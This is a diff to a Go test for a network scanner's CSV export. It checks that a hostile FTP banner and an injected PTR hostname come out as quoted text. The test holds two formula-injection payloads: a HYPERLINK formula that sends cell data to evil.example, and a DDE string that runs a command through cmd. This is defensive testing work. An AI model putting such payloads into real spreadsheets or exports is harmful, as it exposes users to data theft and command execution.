@@ -4,7 +4,10 @@ import (
 	"context"
 	"encoding/csv"
 	"fmt"
+	"html"
+	"io"
 	"net"
+	"strings"
 	"testing"
 
 	"github.com/scantron/scantron/activities"
@@ -14,8 +17,9 @@ import (
 
 // TestCSVExportNeutralisesScannedBanner scans, with nmap, a listener whose
 // FTP greeting carries a spreadsheet formula (nmap's vsftpd signature takes
-// the version from it), and checks that the run's CSV export carries the
-// formula as text, not as a formula a spreadsheet would run.
+// the version from it), gives the host a formula for a PTR name, and
+// checks that the run's CSV export carries both as text, not as formulas
+// a spreadsheet would run.
 func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
 	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"details")`
 	ctx := context.Background()
@@ -67,8 +71,29 @@ func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
 	if err != nil {
 		t.Fatalf("RunScan: %v", err)
 	}
+	// Our scans run nmap with -n, so no reverse DNS answers here; nmap's
+	// output gets the PTR name a hostile DNS server would give, in the
+	// element nmap writes it in, before the output is parsed.
+	body, err := objs.Get(ctx, scanned.Raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	xml, err := io.ReadAll(body)
+	body.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const ptr = `@SUM(1+1)*cmd|' /C calc'!A0`
+	withName := strings.Replace(string(xml), "<hostnames>\n</hostnames>", `<hostnames><hostname name="`+html.EscapeString(ptr)+`" type="PTR"/></hostnames>`, 1)
+	if withName == string(xml) {
+		t.Fatalf("nmap's output has no empty <hostnames> to fill: %s", xml)
+	}
+	raw, err := objs.Put(ctx, scanned.Raw.Key+".ptr", strings.NewReader(withName), int64(len(withName)), "application/xml")
+	if err != nil {
+		t.Fatal(err)
+	}
 	if _, err := execute[activities.ParseResultsResult](t, env, f.results.ParseResults, activities.ParseResultsInput{
-		RunID: start.RunID, ShardID: start.Specs[0].ShardID, Attempt: scanned.Attempt, Raw: scanned.Raw, Agent: scanned.Agent, Signature: scanned.Signature,
+		RunID: start.RunID, ShardID: start.Specs[0].ShardID, Attempt: scanned.Attempt, Raw: raw, Agent: scanned.Agent, Signature: scanned.Signature,
 	}); err != nil {
 		t.Fatalf("ParseResults: %v", err)
 	}
@@ -76,7 +101,7 @@ func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
 	if err != nil {
 		t.Fatalf("ExportResults: %v", err)
 	}
-	body, err := objs.Get(ctx, exported.CSV)
+	body, err = objs.Get(ctx, exported.CSV)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -88,6 +113,9 @@ func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
 	row := records[1]
 	if row[9] != "ftp" || row[10] != "vsftpd" {
 		t.Fatalf("nmap did not name the service from the banner: %v", row)
+	}
+	if row[5] != "'"+ptr {
+		t.Errorf("hostname cell %q, want the PTR name behind a quote", row[5])
 	}
 	if row[11] != "'"+formula {
 		t.Errorf("version cell %q, want the formula behind a quote", row[11])
